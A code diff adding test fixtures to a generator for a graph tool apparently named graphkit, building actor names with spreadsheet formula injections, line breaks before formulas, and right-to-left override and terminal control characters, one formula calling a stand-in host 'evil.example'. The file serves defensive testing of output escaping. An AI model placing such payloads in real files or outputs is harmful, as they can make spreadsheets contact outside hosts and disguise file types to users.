@@ -55,6 +55,19 @@ FORMULAS = [
     "\t=1+1",
     "=WEBSERVICE(\"http://evil.example\")",
 ]
+# Every line break a dataset may carry (VT, FF and the C0 separators are refused at load)
+# before a formula: a reader that splits the cell there must not see the formula either.
+OUTPUT_BREAKS = ["\r", "\n", "\r\n", "\x85", "\u2028", "\u2029"]
+LINE_BREAK_NAMES = [f"name{brk}{f}".replace('"', '""') for brk in OUTPUT_BREAKS for f in FORMULAS[:4]]
+# Right-to-left overrides and embeddings, isolates, marks, and C1/CR controls for terminals.
+BIDI_NAMES = [
+    "evil\u202etxt.exe",  # RIGHT-TO-LEFT OVERRIDE
+    "\u202bembedded right to left",  # RIGHT-TO-LEFT EMBEDDING, never closed
+    "\u2067isolate never closed",  # RIGHT-TO-LEFT ISOLATE
+    "mark\u200fhere",  # RIGHT-TO-LEFT MARK
+    "carriage\rreturn rewrites the line",
+    "next\x85line and \x9bCSI",  # NEL and the C1 control sequence introducer
+]
 GRAPHML_HEAD = (
     '<graphml xmlns="http://graphml.graphdrawing.org/xmlns">\n'
     '<key id="label" for="node" attr.name="label" attr.type="string"/>\n'
@@ -174,6 +187,11 @@ def xlsx_with_sheet_xml(sheet: str, replace: tuple[str, str], *, cell: str | Non
 def entries() -> dict[str, dict[str, bytes] | bytes]:
     """name -> a folder's files, or one file's bytes (the name carries the extension)."""
     e: dict[str, dict[str, bytes] | bytes] = {}
+    # ---- output side (issue 16): names built to break the files graphkit writes ---------
+    e["out-line-break-names"] = folder(actors=add("actors", "".join(
+        f'N{i},"{name}",ngo,\n' for i, name in enumerate(LINE_BREAK_NAMES))))
+    e["out-bidi-control-names"] = folder(actors=add("actors", "".join(
+        f'N{i},"{name}",ngo,\n' for i, name in enumerate(BIDI_NAMES))))
     # ---- CSV dataset folders ------------------------------------------------------
     e["csv-latin1"] = folder(actors=(BASE["actors.csv"] + "DEU,Deutschland Bundesländer,state,Europe\n").encode("latin-1"))
     e["csv-utf16"] = folder(actors=BASE["actors.csv"].encode("utf-16"))
